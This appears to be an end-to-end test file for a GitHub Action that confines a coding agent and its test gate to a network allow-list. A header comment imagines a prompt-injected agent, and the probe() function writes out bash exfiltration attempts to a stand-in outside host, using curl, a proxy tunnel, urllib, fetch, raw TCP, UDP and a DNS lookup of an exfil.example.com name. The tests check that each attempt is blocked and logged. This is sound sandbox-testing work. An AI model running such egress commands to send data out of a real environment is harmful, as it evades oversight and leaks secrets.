import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { bareRemote, checkoutOf } from './helpers/bare-remote.js'
import { DIST_INDEX, runAction, type ActionRun } from './helpers/action-runner.js'
import { CLI_BIN_DIR, CLAUDE_BIN } from './helpers/agent-engine.js'
import { agentUser, assertUserCanRun } from './helpers/agent-user.js'
import { FIX } from './helpers/flaky-project.js'
import { buggyProject, makeRepo, tempDir } from './helpers/repo.js'
import { readAttemptLog } from '../src/records/attempt-log.js'
import { startGitHubServer, type GitHubServer } from './github-server/server.js'
import { startAnthropicServer, type AnthropicServer, type AnthropicStep } from './servers/anthropic-server.js'

/**
 * A prompt-injected agent, and a gate whose tests were written to phone home, try every way out of
 * the runner to a host outside the allow-list (a second loopback address with a server on it
 * stands in for the internet): curl, curl through a CONNECT tunnel, Python's urllib, Node's fetch,
 * a raw TCP connect, a blocking one, a UDP datagram and a DNS lookup. Each fails and is listed with
 * its process; the same to an allowed host succeeds; the model calls are still metered.
 */

/** Where the probe's blocking connect and UDP datagram go, on the probed host. */
const BLOCKING_PORT = 9
const UDP_PORT = 5000

const TOKEN = 'ghs_egressE2eToken000000000000000000001'
const MODEL_KEY = 'sk-ant-egress-e2e-key-held-by-loopgate'

interface Host {
  url: string
  port: number
  hits: string[]
  close: () => Promise<void>
}

async function host(address: string): Promise<Host> {
  const hits: string[] = []
  const s = http.createServer((req, res) => {
    hits.push(req.url ?? '')
    res.end('reached\n')
  })
  await new Promise<void>((resolve) => s.listen(0, address, resolve))
  const port = (s.address() as AddressInfo).port
  return { url: `http://${address}:${port}`, port, hits, close: () => new Promise((resolve) => s.close(() => resolve())) }
}

/** A bash script that tries each way out to `base`, paths tagged with `tag`, and prints `name ok|failed` per way. */
function probe(base: string, tag: string): string {
  const { hostname, port } = new URL(base)
  const py = (code: string): string => `/usr/bin/python3 -c "${code}"`
  const node = (code: string): string => `/usr/bin/node -e "${code}"`
  const ways: Record<string, string> = {
    curl: `curl -sf -m 5 ${base}/${tag}-curl`,
    tunnel: `curl -sf -m 5 --proxytunnel ${base}/${tag}-tunnel`,
    urllib: py(`import urllib.request; urllib.request.urlopen('${base}/${tag}-urllib', timeout=5).read()`),
    fetch: node(`fetch('${base}/${tag}-fetch').then(() => process.exit(0), () => process.exit(1))`),
    tcp: node(`require('net').connect(${port}, '${hostname}').on('connect', () => process.exit(0)).on('error', () => process.exit(1))`),
    blocking: py(`import socket; socket.socket().connect(('${hostname}', ${BLOCKING_PORT}))`),
    udp: py(`import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('${hostname}', ${UDP_PORT}))`),
    dns: py(`import socket; socket.gethostbyname('${tag}.exfil.example.com')`)
  }
  return Object.entries(ways)
    .map(([name, cmd]) => `if ${cmd} >/dev/null 2>&1; then echo "${tag} ${name} ok"; else echo "${tag} ${name} failed"; fi`)
    .join('\n')
}

const bash = (command: string): AnthropicStep => ({ kind: 'tool', name: 'Bash', input: { command } })

describe('the network of the agent and the gate is an allow-list, through the bundled action', () => {
  let gh: GitHubServer
  let anthropic: AnthropicServer
  let outside: Host
  let allowed: Host

  beforeAll(async () => {
    if (!existsSync(DIST_INDEX)) throw new Error('dist/index.js is missing: run `npm run package`')
    assertUserCanRun(agentUser(), CLAUDE_BIN)
    anthropic = await startAnthropicServer()
  })
  afterAll(async () => {
    await anthropic?.close()
  })
  beforeEach(async () => {
    gh = await startGitHubServer({ token: TOKEN })
    outside = await host('127.0.0.2')
    allowed = await host('127.0.0.3')
  })
  afterEach(async () => {
    await Promise.all([gh.close(), outside.close(), allowed.close()])
    expect(gh.violations).toEqual([])
  })

  /** The project: its gate runs the probe to the outside and to the allowed host first (protected, from the base). */
  function project(): Record<string, string> {
    return {
      ...buggyProject(),
      'test/phone-home.sh': `${probe(outside.url, 'gate-out')}\n${probe(allowed.url, 'gate-in')}\n`
    }
  }

  const run = (inputs: Record<string, string>): Promise<ActionRun> => {
    const { server, bare } = bareRemote(project())
    return runAction({
      workspace: checkoutOf(bare),
      eventName: 'schedule',
      event: { schedule: '0 3 * * *' },
      env: {
        PATH: `${CLI_BIN_DIR}${path.delimiter}${process.env.PATH ?? '/usr/bin:/bin'}`,
        ANTHROPIC_BASE_URL: anthropic.url,
        CLAUDE_CODE_MAX_RETRIES: '1',
        GITHUB_API_URL: gh.url,
        GITHUB_SERVER_URL: `file://${server}`,
        GITHUB_REF: 'refs/heads/main'
      },
      inputs: {
        prompt: 'Make add() return the sum of its two arguments, and keep the tests green.',
        'github-token': TOKEN,
        'gate-command': 'bash test/phone-home.sh && node test/run.mjs',
        'allowed-hosts': '127.0.0.3',
        'gate-allowed-hosts': '127.0.0.3',
        'max-turns': '6',
        'call-budget-usd': '0.5',
        'spend-ceiling-usd': '3',
        'loop-id': 'egress',
        ...inputs
      },
      timeoutMs: 300_000
    })
  }

  /** Every way out to the outside host failed for `process` and is listed; none reached it. */
  function expectRefusedAndListed(body: string, process: 'agent' | 'gate'): void {
    expect(body).toContain('<summary>Network refused</summary>')
    expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${outside.port} \` \\| [48] \\|`))
    expect(body).toMatch(new RegExp(`\\| ${process} \\| DNS lookup of \` ${process === 'agent' ? 'agent' : 'gate-out'}\\.exfil\\.example\\.com \` \\|`))
    // The raw TCP connect, the blocking one and the datagram are listed with where they went.
    expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${outside.port} \\(direct connection\\) \` \\| [12] \\|`))
    expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${BLOCKING_PORT} \\(direct connection\\) \` \\| [12] \\|`))
    expect(body).toMatch(new RegExp(`\\| ${process} \\| \` 127\\.0\\.0\\.2:${UDP_PORT} \\(UDP datagram\\) \` \\| [12] \\|`))
  }

  it('the real claude CLI: every way out fails and is listed, the allowed host is reached, the calls are metered', async () => {
    anthropic.setScript([bash(`${probe(outside.url, 'agent')}\n${probe(allowed.url, 'agent-in')}`), bash(FIX), { kind: 'text', text: 'Fixed add().' }])
    const r = await run({ agent: 'claude', 'anthropic-api-key': MODEL_KEY, 'max-iterations': '2' })
    expect(r.outputs['stop-reason']).toBe('verified')
    expect(outside.hits).toEqual([])
    // curl, the tunnel, urllib and Node's fetch use the proxy; a raw connect does not, so it fails even to an allowed host.
    expect(allowed.hits.sort()).toEqual(
      [
        '/agent-in-curl',
        '/agent-in-tunnel',
        '/agent-in-urllib',
        '/agent-in-fetch',
        '/gate-in-curl',
        '/gate-in-tunnel',
        '/gate-in-urllib',
        '/gate-in-fetch',
        '/gate-in-curl',
        '/gate-in-tunnel',
        '/gate-in-urllib',
        '/gate-in-fetch'
      ].sort()
    )
    const body = gh.pulls[0].body
    expectRefusedAndListed(body, 'agent')
    expectRefusedAndListed(body, 'gate')
    expect(r.summary).toContain('network refused over the run')
    expect(r.summary).toContain("the agent's network is loopback only")
    const notes = readAttemptLog(r.outputs['log-file']).flatMap((e) => ('notes' in e && Array.isArray(e.notes) ? (e.notes as string[]) : []))
    expect(
      notes.filter(
        (n) =>
          n.startsWith('network refused during the call: ') &&
          n.includes(`agent: 127.0.0.2:${outside.port} ×4`) &&
          n.includes(`agent: 127.0.0.2:${outside.port} (direct connection) ×1`)
      )
    ).toHaveLength(1)
    expect(
      notes.filter(
        (n) =>
          n.startsWith('network refused during the gate: ') &&
          n.includes(`gate: 127.0.0.2:${outside.port} ×4`) &&
          n.includes(`gate: 127.0.0.2:${outside.port} (direct connection) ×1`)
      )
    ).toEqual([expect.any(String)])
    // Metered at the wire as before: the model server's requests came through loopgate's proxy.
    expect(anthropic.requests.length).toBeGreaterThan(0)
    for (const req of anthropic.requests) expect(req.headers['x-api-key']).toBe(MODEL_KEY)
    const calls = readAttemptLog(r.outputs['log-file']).filter((e) => e.type === 'iteration')
    expect(calls.map((e) => (e as unknown as { agent: { costSource: string } }).agent.costSource)).toEqual(['metered'])
    for (const text of [r.stdout, r.stderr, body]) expect(text).not.toContain(MODEL_KEY)
  }, 360_000)

  it('a command agent: the escalation issue lists each refusal with its process', async () => {
    const r = await run({ agent: 'command', 'agent-command': probe(outside.url, 'agent'), 'max-iterations': '1' })
    expect(r.outputs['stop-reason']).toBe('max-iterations')
    expect(outside.hits).toEqual([])
    expect(gh.issues).toHaveLength(1)
    expectRefusedAndListed(gh.issues[0].body, 'agent')
    expectRefusedAndListed(gh.issues[0].body, 'gate')
    // The attempt log (per call, per gate run) and the summary name the blocking connect and the datagram too.
    const notes = readAttemptLog(r.outputs['log-file']).flatMap((e) => ('notes' in e && Array.isArray(e.notes) ? (e.notes as string[]) : []))
    for (const [process, during] of [
      ['agent', 'call'],
      ['gate', 'gate']
    ])
      expect(
        notes.filter(
          (n) =>
            n.startsWith(`network refused during the ${during}: `) &&
            n.includes(`${process}: 127.0.0.2:${BLOCKING_PORT} (direct connection) ×1`) &&
            n.includes(`${process}: 127.0.0.2:${UDP_PORT} (UDP datagram) ×1`)
        ).length
      ).toBeGreaterThan(0)
    for (const process of ['agent', 'gate']) {
      expect(r.summary).toContain(`${process}: 127.0.0.2:${BLOCKING_PORT} (direct connection)`)
      expect(r.summary).toContain(`${process}: 127.0.0.2:${UDP_PORT} (UDP datagram)`)
    }
  }, 360_000)
})

describe('a runner where loopgate cannot make the namespaces (not root)', () => {
  const runAsUser = (inputs: Record<string, string>): Promise<{ r: ActionRun; ws: string }> => {
    const user = agentUser()
    const ws = makeRepo(buggyProject())
    execFileSync('chown', ['-R', `${user.uid}:${user.gid}`, ws])
    const runnerTemp = tempDir('loopgate-egress-runner-')
    execFileSync('chown', ['-R', `${user.uid}:${user.gid}`, runnerTemp])
    return runAction({
      workspace: ws,
      as: user,
      runnerTemp,
      env: { PATH: '/usr/local/bin:/usr/bin:/bin' },
      inputs: {
        agent: 'command',
        'agent-command': `touch called.txt; sed -i 's/a - b/a + b/' src/math.mjs`,
        prompt: 'x',
        'gate-command': 'node test/run.mjs',
        'dry-run': 'true',
        ...inputs
      }
    }).then((r) => ({ r, ws }))
  }

  it('says so before any call and refuses to run', async () => {
    const { r, ws } = await runAsUser({})
    expect(r.outputs['stop-reason']).toBe('config-error')
    expect(existsSync(path.join(ws, 'called.txt'))).toBe(false)
    expect(r.summary).toContain('not root, so it cannot make network and PID namespaces')
    expect(r.summary).toContain('allowed-hosts')
  }, 120_000)

  it("runs with the runner's whole network when allowed-hosts is '*', and the summary says so", async () => {
    const { r, ws } = await runAsUser({ 'allowed-hosts': '*' })
    expect(r.outputs['stop-reason']).toBe('verified')
    expect(existsSync(path.join(ws, 'called.txt'))).toBe(true)
    expect(r.summary).toContain("the agent and the gate have the runner's whole network and see every process on it (allowed-hosts: '*')")
  }, 120_000)
})
